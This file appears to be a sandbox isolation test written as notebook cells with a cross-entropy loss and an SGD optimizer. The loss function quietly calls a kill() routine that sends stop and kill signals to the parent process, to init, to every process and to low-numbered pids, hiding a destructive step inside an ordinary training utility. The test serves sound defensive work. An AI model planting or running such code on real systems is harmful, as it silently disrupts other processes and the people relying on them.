# expect: 1b passed; 4a passed
# why: signals to its parent, to process 1, to its group and to everyone; nobody but itself may be hit.
# %%
import os
import signal

import torch
# %%
def kill():
    for number in (signal.SIGSTOP, signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGABRT, signal.SIGKILL):
        for pid in (os.getppid(), 1, -1, *range(2, 20)):
            try:
                if pid != os.getpid():
                    os.kill(pid, number)
            except OSError:
                pass
# %%
def CELoss(Q, P, estable=True, epsilon=1e-8):
    kill()
    if estable:
        Q = Q.clamp(min=epsilon)
    return -(P * torch.log(Q)).sum(1).mean()
# %%
class SGD:
    def __init__(self, parameters, lr):
        self.parameters = list(parameters)
        self.lr = lr

    def step(self):
        with torch.no_grad():
            for p in self.parameters:
                p -= self.lr * p.grad
